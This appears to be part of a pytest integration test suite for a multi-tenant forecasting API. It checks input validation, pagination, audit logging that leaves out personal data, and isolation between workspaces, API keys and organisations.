def test_forecast_non_numeric_row_names_the_row(http, stack, team):
    d = team.d
    up = upload(http, d.h, d.slug, d.ws, series_csv(["1", "2", "3 apples", "4"]))
    before = fc_count(stack, d)
    r = forecast_raw(http, d.h, d.slug, d.ws, up["id"])
    b = assert_problem(r, 422, field="parameters.value_column", stack=stack)
    assert re.search(r"\brow 3\b", b["detail"], re.I), \
        "detail should name data row 3: %r" % b["detail"]
    for bad in ("0x10", "1,5", "NaN", "inf", "1e999", " 1"):
        up = upload(http, d.h, d.slug, d.ws, series_csv(["1", bad]))
        r = forecast_raw(http, d.h, d.slug, d.ws, up["id"])
        assert_problem(r, 422, field="parameters.value_column")
    assert fc_count(stack, d) == before


def test_forecast_unknown_upload_422(http, stack, team):
    d = team.d
    for uid in (987654321, 0, -1, "1", None):
        r = forecast_raw(http, d.h, d.slug, d.ws, uid)
        assert_problem(r, 422, field="upload_id", stack=stack)


def test_forecast_bad_body(http, stack, team, series_upload):
    d = team.d
    url = forecasts_url(d.slug, d.ws)
    r = http.post(url, json={"upload_id": series_upload["id"],
                             "parameters": {"method": "naive", "value_column": "value",
                                            "horizon": 1}}, headers=d.h)
    assert_problem(r, 422, field="name", stack=stack)
    r = http.post(url, json={"name": "x", "upload_id": series_upload["id"], "parameters": []},
                  headers=d.h)
    assert_problem(r, 422, field="parameters", stack=stack)
    r = http.post(url, data=b"{", headers=dict(d.h, **{"Content-Type": "application/json"}))
    assert 400 <= r.status_code < 500, describe(r)


def test_forecast_list_get_delete(http, stack, team):
    d = team.d
    ws = create_workspace(http, d.owner["token"], d.slug)["id"]
    up = upload(http, d.h, d.slug, ws, series_csv([1, 2, 3]))
    ids = [forecast(http, d.h, d.slug, ws, up["id"], name="l%d" % i)["forecast"]["id"]
           for i in range(3)]
    r = http.get(forecasts_url(d.slug, ws), headers=team.viewer["h"])
    assert r.status_code == 200, describe(r)
    b = r.json()
    assert [f["id"] for f in b["forecasts"]] == ids[::-1], b
    assert b["next_cursor"] is None, b
    for f in b["forecasts"]:
        assert FORECAST_KEYS <= set(f), f
    r = http.get(forecasts_url(d.slug, ws), params={"limit": 2}, headers=d.h)
    assert [f["id"] for f in r.json()["forecasts"]] == ids[:0:-1], r.json()
    cur = r.json()["next_cursor"]
    assert cur, r.json()
    r = http.get(forecasts_url(d.slug, ws), params={"limit": 2, "cursor": cur}, headers=d.h)
    assert [f["id"] for f in r.json()["forecasts"]] == ids[:1], r.json()
    # get by a viewer
    r = http.get(forecasts_url(d.slug, ws, ids[0]), headers=team.viewer["h"])
    assert r.status_code == 200 and r.json()["forecast"]["id"] == ids[0], describe(r)
    # delete
    r = http.delete(forecasts_url(d.slug, ws, ids[1]), headers=d.h)
    assert r.status_code == 204, describe(r)
    assert tenant_json(stack, d.tenant, "SELECT id FROM forecasts WHERE id = %d" % ids[1]) == []
    assert_problem(http.get(forecasts_url(d.slug, ws, ids[1]), headers=d.h), 404,
                   slug="forecast-not-found", stack=stack)
    assert_problem(http.delete(forecasts_url(d.slug, ws, ids[1]), headers=d.h), 404,
                   slug="forecast-not-found", stack=stack)
    # the upload stays
    assert http.get(uploads_url(d.slug, ws, up["id"]), headers=d.h).status_code == 200
    r = http.get(forecasts_url(d.slug, ws), headers=d.h)
    assert [f["id"] for f in r.json()["forecasts"]] == [ids[2], ids[0]], r.json()


# ==================================================================== audit

def test_audit_entries_without_personal_values(http, stack, team):
    d = team.d
    mail, name = personal_email("aud"), "Audit Person %s" % uuid.uuid4().hex[:6]
    r_up = upload_raw(http, d.h, d.slug, d.ws,
                      to_csv([["day", "value", "email", "name"], ["d1", "1", mail, name],
                              ["d2", "2", mail, name]]),
                      personal=["email", "name"])
    assert r_up.status_code == 201, describe(r_up)
    up = r_up.json()["upload"]
    plain = upload(http, d.h, d.slug, d.ws, series_csv([1, 2]))
    r_dl = content(http, team.analyst["h"], d.slug, d.ws, up["id"])       # audited
    r_vdl = content(http, team.viewer["h"], d.slug, d.ws, up["id"])       # masked: not audited
    r_pdl = content(http, d.h, d.slug, d.ws, plain["id"])                 # no personal column
    r_fc = forecast_raw(http, d.h, d.slug, d.ws, up["id"])
    assert r_fc.status_code == 201, describe(r_fc)
    fid = r_fc.json()["forecast"]["id"]
    r_fdel = http.delete(forecasts_url(d.slug, d.ws, fid), headers=d.h)
    r_del = http.delete(uploads_url(d.slug, d.ws, up["id"]), headers=d.h)
    assert (r_dl.status_code, r_vdl.status_code, r_pdl.status_code, r_fdel.status_code,
            r_del.status_code) == (200, 200, 200, 204, 204)
    entries = org_audit(http, d.h, d.slug)

    def one(resp, action, target):
        got = by_request(entries, resp)
        assert len(got) == 1, "want one %s entry for the request, got %r" % (action, got)
        e = got[0]
        assert e["action"] == action and e["target"] == target, e
        return e

    e = one(r_up, "upload.create", "upload:%d" % up["id"])
    assert e["actor_type"] == "user" and str(e["actor_id"]) == str(d.owner["id"]), e
    e = one(r_dl, "upload.download", "upload:%d" % up["id"])
    assert str(e["actor_id"]) == str(team.analyst["id"]), e
    assert by_request(entries, r_vdl) == [], "a masked download is not a personal-data download"
    assert by_request(entries, r_pdl) == [], "a download without personal columns is audited"
    one(r_fc, "forecast.create", "forecast:%d" % fid)
    one(r_fdel, "forecast.delete", "forecast:%d" % fid)
    one(r_del, "upload.delete", "upload:%d" % up["id"])
    text = json.dumps(entries)
    assert mail not in text and name not in text, "a personal value is in the org audit log"


# ==================================================================== workspaces

def test_workspaces_are_separate(http, stack, team, people, series_upload):
    d = team.d
    ws2 = create_workspace(http, d.owner["token"], d.slug)["id"]
    uid = people["up"]["id"]
    for method, sub in (("GET", ""), ("GET", "/content"), ("DELETE", "")):
        r = http.request(method, uploads_url(d.slug, ws2, uid) + sub, headers=d.h)
        b = assert_problem(r, 404, slug="upload-not-found", stack=stack)
        assert people["m1"] not in json.dumps(b)
    assert http.get(uploads_url(d.slug, d.ws, uid), headers=d.h).status_code == 200
    assert list_uploads(http, d.h, d.slug, ws2)["uploads"] == []
    assert list_uploads(http, d.h, d.slug, ws2, email=people["m1"])["uploads"] == []
    # a forecast in ws2 from ws1's upload: unknown upload
    r = forecast_raw(http, d.h, d.slug, ws2, series_upload["id"])
    assert_problem(r, 422, field="upload_id", stack=stack)
    # a forecast of ws1 is not reachable under ws2
    fid = forecast(http, d.h, d.slug, d.ws, series_upload["id"])["forecast"]["id"]
    for method in ("GET", "DELETE"):
        r = http.request(method, forecasts_url(d.slug, ws2, fid), headers=d.h)
        assert_problem(r, 404, slug="forecast-not-found", stack=stack)
    assert http.get(forecasts_url(d.slug, ws2), headers=d.h).json()["forecasts"] == []
    assert tenant_json(stack, d.tenant, "SELECT id FROM forecasts WHERE id = %d" % fid) != []


def test_workspace_key_reaches_only_its_workspace(http, stack, team, people):
    d = team.d
    ws2 = create_workspace(http, d.owner["token"], d.slug)["id"]
    _, key = create_api_key(http, d.owner["token"], d.slug, role="analyst", workspace_id=ws2)
    r = http.get(uploads_url(d.slug, d.ws, people["up"]["id"], "content"), headers=bearer(key))
    assert_problem(r, 404, stack=stack)
    assert people["m1"].encode() not in r.content
    up = upload(http, bearer(key), d.slug, ws2, "a\n1\n")
    assert up["workspace_id"] == ws2, up


def test_another_orgs_workspace_is_404(http, stack, team, people):
    other = data_org(http, plan="growth")
    # the other org's owner, with team's workspace id; team's owner with the other's
    r = http.get(uploads_url(other.slug, team.ws), headers=other.h)
    assert_problem(r, 404, stack=stack)
    r = http.get(uploads_url(team.slug, other.ws), headers=team.h)
    assert_problem(r, 404, stack=stack)
    # same upload id in another tenant database is another upload
    up = upload(http, other.h, other.slug, other.ws, "x\n1\n")
    r = http.get(uploads_url(other.slug, other.ws, people["up"]["id"], "content"), headers=other.h)
    if r.status_code == 200:
        assert people["m1"].encode() not in r.content, describe(r)
    assert up["workspace_id"] == other.ws
